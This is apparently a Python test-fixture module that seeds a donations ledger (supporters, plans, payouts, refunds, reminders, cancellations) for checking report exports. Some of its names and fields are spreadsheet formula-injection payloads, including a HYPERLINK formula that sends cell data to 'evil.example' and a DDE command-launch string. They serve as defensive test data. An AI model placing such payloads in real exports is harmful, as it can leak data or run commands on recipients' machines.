"""A small ledger whose report totals are worked out by hand in the tests.

Times are UTC; the comments give New York time, the reporting zone of the
tests (EST until 8 March 2026, EDT after).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from donations.db import db
from donations.mail.models import Suppression, SuppressionReason
from donations.payments.models import PayoutStatus
from donations.reminders.models import Reminder, ReminderStatus, SkipReason
from donations.supporters.models import DonationStatus, Frequency, PlanStatus
from donations.supporters.retention import AttemptStatus, CancellationAttempt, CancellationTiming
from tests import factories

# Names a spreadsheet would run as formulas if they were written as they are.
PAYLOADS = {
    "two@example.org": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "three@example.org": "+1 (555) 0100",
    "four@example.org": "-2+3",
    "five@example.org": "@SUM(A1:A9)",
    "six@example.org": "\tTabbed",
    "seven@example.org": "\rReturned",
}


def at(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=UTC)


@dataclass
class Ledger:
    ids: dict[str, int]


def seed() -> Ledger:
    s1 = factories.supporter(
        "one@example.org", "Zoë O'Brien, Jr.", newsletter_opt_in=True, created_at=at(2026, 1, 5)
    )
    others = {
        email: factories.supporter(email, name, created_at=at(2026, 2, 1 + i))
        for i, (email, name) in enumerate(PAYLOADS.items())
    }
    s2, s3, s4, s5, s6, _ = others.values()
    erased = factories.supporter(
        "gone@example.org", "", created_at=at(2026, 3, 1), erased_at=at(2026, 3, 2)
    )
    s1.country, s1.stripe_customer_id = "US", "cus_one"

    p1 = factories.plan(
        s2, 2000, stripe_subscription_id="sub_1", started_at=at(2026, 3, 15, 3), method="card"
    )
    p2 = factories.plan(
        s1,
        1200,
        fee_cover_amount=100,
        frequency=Frequency.ANNUAL,
        started_at=at(2026, 2, 10, 12),
    )
    p3 = factories.plan(s3, 300, "EUR", status=PlanStatus.PAST_DUE, started_at=at(2026, 1, 10, 12))
    p4 = factories.plan(
        s4,
        1000,
        status=PlanStatus.CANCELED,
        started_at=at(2026, 1, 5, 12),
        canceled_at=at(2026, 3, 10, 12),
        cancellation_reason="=cmd|' /C calc'!A0",
    )
    p5 = factories.plan(s5, 700, status=PlanStatus.INCOMPLETE, created_at=at(2026, 3, 20, 12))

    po1 = factories.payout(
        2703,
        status=PayoutStatus.PAID,
        stripe_payout_id="po_1",
        arrival_date=at(2026, 3, 20),
        stripe_created_at=at(2026, 3, 18),
    )
    po2 = factories.payout(
        5000,
        status=PayoutStatus.IN_TRANSIT,
        stripe_payout_id="po_2",
        arrival_date=at(2026, 4, 3),
        stripe_created_at=at(2026, 4, 1),
    )
    factories.payout(
        900,
        status=PayoutStatus.FAILED,
        stripe_payout_id="po_3",
        arrival_date=at(2026, 3, 25),
        stripe_created_at=at(2026, 3, 23),
    )

    # 06:00 on 15 March.
    d1 = factories.donation(
        s1,
        1000,
        fee_cover_amount=50,
        fee=59,
        net=991,
        refunded_amount=200,
        method="card",
        campaign="spring",
        succeeded_at=at(2026, 3, 15, 10),
        stripe_payment_intent_id="pi_1",
        stripe_charge_id="ch_1",
        payout_id=po1.id,
    )
    # 23:00 on 14 March: the first payment of plan 1.
    d2 = factories.donation(
        s2,
        2000,
        fee=88,
        net=1912,
        method="card",
        frequency=Frequency.MONTHLY,
        recurring_plan_id=p1.id,
        succeeded_at=at(2026, 3, 15, 3),
        stripe_payment_intent_id="pi_2",
        stripe_charge_id="ch_2",
        stripe_invoice_id="in_2",
        payout_id=po1.id,
    )
    # 22:00 on 28 February.
    d3 = factories.donation(
        s3,
        500,
        "EUR",
        fee=20,
        net=480,
        method="sepa_debit",
        succeeded_at=at(2026, 3, 1, 3),
        stripe_payment_intent_id="pi_3",
    )
    # 19:00 on 31 March, yen (no minor unit).
    d4 = factories.donation(
        s4, 3000, "JPY", fee=100, method="card", succeeded_at=at(2026, 3, 31, 23)
    )
    # Declined: created 08:00 on 10 March, never succeeded.
    d5 = factories.donation(
        s5, 5000, status=DonationStatus.FAILED, method="card", created_at=at(2026, 3, 10, 12)
    )
    # 23:30 on 31 March, fee not known yet.
    d6 = factories.donation(
        s1, 700, method="card", succeeded_at=at(2026, 4, 1, 3, 30), payout_id=po2.id
    )
    # 16:00 on 20 March, Kuwaiti dinar (three decimals).
    d7 = factories.donation(s6, 1500, "KWD", fee=45, succeeded_at=at(2026, 3, 20, 20))
    # 20:00 on 1 April: after March.
    d8 = factories.donation(s1, 400, succeeded_at=at(2026, 4, 2))
    factories.refund(
        d1, 200, stripe_refund_id="re_1", stripe_created_at=at(2026, 3, 16), payout_id=po1.id
    )

    def reminder(created: datetime, status: ReminderStatus, **extra: Any) -> Reminder:
        return factories.reminder(
            f"r{created.day}@example.org",
            due_at=created,
            created_at=created,
            status=status,
            frequency=None,
            currency=None,
            amount=None,
            **extra,
        )

    r1 = reminder(at(2026, 3, 2, 12), ReminderStatus.SENT, address_hash="h1")
    reminder(at(2026, 3, 5, 12), ReminderStatus.SENT, address_hash="h2")
    reminder(at(2026, 3, 6, 12), ReminderStatus.PENDING, address_hash="h3")
    reminder(
        at(2026, 3, 7, 12),
        ReminderStatus.CANCELED,
        address_hash="h4",
        skip_reason=SkipReason.UNSUBSCRIBED,
    )
    r5 = reminder(at(2026, 2, 10, 12), ReminderStatus.SENT, address_hash="h5")
    d1.reminder_id = r1.id
    p2.reminder_id = r5.id
    db.session.add(Suppression(address_hash="h2", reason=SuppressionReason.UNSUBSCRIBED))
    db.session.add(Suppression(address_hash="h1", reason=SuppressionReason.BOUNCED))
    # Cancellations started in /manage (the retention report), New York months:
    # Feb: not_reading cancelled with a reminder instead; other left undecided
    # (1 March 03:00 UTC is still February there). March: too_expensive twice,
    # one cancelled, one saved by a pause.
    for plan, created, reason, status, offer in (
        (p4, at(2026, 3, 10, 12), "too_expensive", AttemptStatus.CANCELLED, None),
        (p1, at(2026, 3, 20, 12), "too_expensive", AttemptStatus.SAVED, "pause"),
        (p2, at(2026, 2, 11, 12), "not_reading", AttemptStatus.CANCELLED, "reminder"),
        (p3, at(2026, 3, 1, 3), "other", AttemptStatus.OFFERED, None),
    ):
        db.session.add(
            CancellationAttempt(
                plan_id=plan.id,
                supporter_id=plan.supporter_id,
                reason=reason,
                timing=CancellationTiming.PERIOD_END,
                offers_shown="pause,reminder",
                offer_taken=offer,
                status=status,
                source="sign_in_link",
                created_at=created,
                decided_at=None if status is AttemptStatus.OFFERED else created,
            )
        )
    db.session.flush()
    rows = {"d1": d1, "d2": d2, "d3": d3, "d4": d4, "d5": d5, "d6": d6, "d7": d7, "d8": d8}
    plans = {"p1": p1, "p2": p2, "p3": p3, "p4": p4, "p5": p5}
    ids = {key: row.id for key, row in {**rows, **plans}.items()}
    ids.update(s1=s1.id, erased=erased.id)
    return Ledger(ids)


def bulk_ledger(count: int, supporters: int = 500, *, seed_value: int = 1) -> None:
    """``count`` donations of every kind, written in batches (fast enough for 200,000).

    Names carry formula payloads, quotes, commas, line breaks and non-Latin
    text; amounts span zero-, two- and three-decimal currencies, unknown
    fees and refunds larger than the net; times cross the DST change.
    """
    import random

    from sqlalchemy import insert, select

    from donations.supporters.models import Donation, Supporter

    rng = random.Random(seed_value)
    names = [
        *PAYLOADS.values(),
        'Ada "the first" Lovelace',
        "Smith, John",
        "line\nbreak",
        "crlf\r\ninside",
        "Юлия Петрова",
        "李小龙",
        "",
        "'already quoted",
        " =space first",
        "\\.",
        "a\\b",
    ]
    db.session.execute(
        insert(Supporter),
        [
            {
                "email": f"bulk{i}@example.org" if i % 7 else f"=bulk{i}@example.org",
                "email_key": f"bulk{i}@example.org",
                "name": names[i % len(names)] + (str(i) if i % 3 else ""),
                "newsletter_opt_in": i % 2 == 0,
                "locale": "en",
                "created_at": at(2026, 1, 1),
                "updated_at": at(2026, 1, 1),
            }
            for i in range(supporters)
        ],
    )
    ids = list(db.session.scalars(select(Supporter.id).where(Supporter.email_key.like("bulk%"))))
    currencies = ["USD", "USD", "EUR", "GBP", "JPY", "KWD"]
    statuses = list(DonationStatus)
    frequencies = list(Frequency)
    base = at(2026, 3, 1).timestamp()
    batch: list[dict[str, object]] = []
    for i in range(count):
        amount = rng.choice([1, 99, 500, 1000, 2500, 10**9, rng.randint(1, 10**6)])
        fee = rng.choice([None, 0, 30, amount // 10 + 1])
        status = statuses[i % len(statuses)]
        # Some with fractions of a second, which the files leave out.
        fraction = rng.choice([0, 0, 0.5, 0.999999, 0.000001])
        moment = datetime.fromtimestamp(base + i * 37 + rng.randint(0, 30) + fraction, UTC)
        batch.append(
            {
                "attempt_key": f"bulk-{seed_value}-{i}",
                "public_token": f"bulk-{seed_value}-{i}",
                "supporter_id": ids[i % len(ids)],
                "amount": amount,
                "fee_cover_amount": rng.choice([0, 0, 3, 50]),
                "currency": rng.choice(currencies),
                "frequency": frequencies[i % 3],
                "status": status,
                "method": rng.choice(["card", "sepa_debit", None, "-card"]),
                "fee": fee,
                "net": None,
                "refunded_amount": rng.choice([0, 0, 0, amount, amount * 2]),
                "campaign": rng.choice([None, "", "spring", "@home", "+plus", "a,b"]),
                "locale": "en",
                "stripe_payment_intent_id": f"pi_bulk_{seed_value}_{i}",
                "stripe_charge_id": f"ch_bulk_{seed_value}_{i}" if i % 2 else None,
                "created_at": moment,
                "updated_at": moment,
                "succeeded_at": moment if status is DonationStatus.SUCCEEDED else None,
            }
        )
        if len(batch) == 5000:
            db.session.execute(insert(Donation), batch)
            batch = []
    if batch:
        db.session.execute(insert(Donation), batch)


def fast_ledger(count: int, supporters: int = 500) -> None:
    """``count`` plain donations made by the database itself, in one INSERT ... SELECT."""
    from sqlalchemy import insert, text

    from donations.supporters.models import Supporter

    db.session.execute(
        insert(Supporter),
        [
            {
                "email": f"fast{i}@example.org",
                "email_key": f"fast{i}@example.org",
                "name": PAYLOADS["two@example.org"] if i % 5 == 0 else f"Reader, No. {i}",
                "newsletter_opt_in": i % 2 == 0,
                "locale": "en",
                "created_at": at(2026, 1, 1),
                "updated_at": at(2026, 1, 1),
            }
            for i in range(supporters)
        ],
    )
    if db.session.get_bind().dialect.name == "postgresql":
        series = "generate_series(1, :count) AS s(i)"
        moment = "to_timestamp(:base + i * 37)"
    else:
        series = "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < :count) SELECT i FROM n) AS s"  # noqa: E501
        # The layout SQLAlchemy stores SQLite timestamps in.
        moment = "strftime('%Y-%m-%d %H:%M:%S', :base + i * 37, 'unixepoch') || '.000000'"
    amount = "(100 + (i * 7919) % 100000)"
    db.session.execute(
        text(
            f"""
            INSERT INTO donations (
                attempt_key, public_token, supporter_id, amount, fee_cover_amount, currency,
                frequency, status, method, fee, net, refunded_amount, campaign, locale,
                stripe_payment_intent_id, stripe_charge_id, created_at, updated_at, succeeded_at
            )
            SELECT
                'fast-' || i, 'fast-' || i,
                (SELECT min(id) FROM supporters WHERE email_key LIKE 'fast%') + i % :supporters,
                {amount},
                CASE WHEN i % 4 = 0 THEN 50 ELSE 0 END,
                CASE i % 5 WHEN 0 THEN 'EUR' WHEN 1 THEN 'JPY' WHEN 2 THEN 'KWD' ELSE 'USD' END,
                CASE i % 3 WHEN 0 THEN 'once' WHEN 1 THEN 'monthly' ELSE 'annual' END,
                CASE WHEN i % 10 = 0 THEN 'failed' ELSE 'succeeded' END,
                'card',
                CASE WHEN i % 6 = 0 THEN NULL ELSE 30 + i % 50 END,
                NULL,
                CASE WHEN i % 20 = 0 THEN {amount} ELSE 0 END,
                CASE WHEN i % 2 = 0 THEN '=spring' ELSE NULL END,
                'en',
                'pi_fast_' || i, 'ch_fast_' || i,
                {moment}, {moment},
                CASE WHEN i % 10 = 0 THEN NULL ELSE {moment} END
            FROM {series}
            """  # noqa: S608 - fixed fragments
        ),
        {"count": count, "supporters": supporters, "base": int(at(2026, 3, 1).timestamp())},
    )
